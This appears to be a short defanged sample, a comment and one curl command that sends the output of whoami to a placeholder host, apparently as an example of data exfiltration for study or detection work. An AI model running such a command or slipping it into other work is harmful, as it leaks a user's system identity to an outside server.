# defanged sample
curl "https://a.example.invalid/?u=$(whoami)"
